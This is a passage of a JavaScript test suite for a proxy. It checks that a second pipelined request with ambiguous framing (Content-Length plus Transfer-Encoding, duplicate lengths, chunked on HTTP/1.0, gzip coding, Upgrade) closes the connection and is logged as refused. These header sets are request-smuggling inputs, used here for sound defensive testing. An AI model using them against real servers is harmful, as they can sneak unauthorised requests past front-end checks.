    ]);
  });

  test.each([
    ['chunked on HTTP/1.0', ['Transfer-Encoding: chunked'], 'HTTP/1.0'],
    [
      'Content-Length and Transfer-Encoding both',
      ['Content-Length: 3', 'Transfer-Encoding: chunked'],
      'HTTP/1.1'
    ],
    ['two lengths', ['Content-Length: 3', 'Content-Length: 4'], 'HTTP/1.1'],
    ['a coding other than chunked', ['Transfer-Encoding: gzip, chunked'], 'HTTP/1.1'],
    ['an Upgrade', ['Upgrade: websocket', 'Connection: Upgrade'], 'HTTP/1.1']
  ])(
    'a later request framed two ways (%s) ends the connection before it goes on',
    async (_what, fields, version) => {
      const up = await standin();
      const proxy = await proxyWith({
        hosts: [{ pattern: 'standin.test', port: up.port }],
        pinned: new Map([['standin.test', LOCAL]])
      });
      const host = `Host: standin.test:${up.port}`;
      const first = req(['GET / HTTP/1.1', host]);
      const second = req([`POST /x ${version}`, host, ...fields], 'abc');
      const socket = await tunnel(proxy, `standin.test:${up.port}`, Buffer.from(first + second));
      socket.resume();
      expect(await received(up)).toBe(first);
      expect(proxy.refusals()).toEqual([
        { name: 'standin.test', port: up.port, why: 'bad-request', count: 1 }
      ]);
    }
  );
});
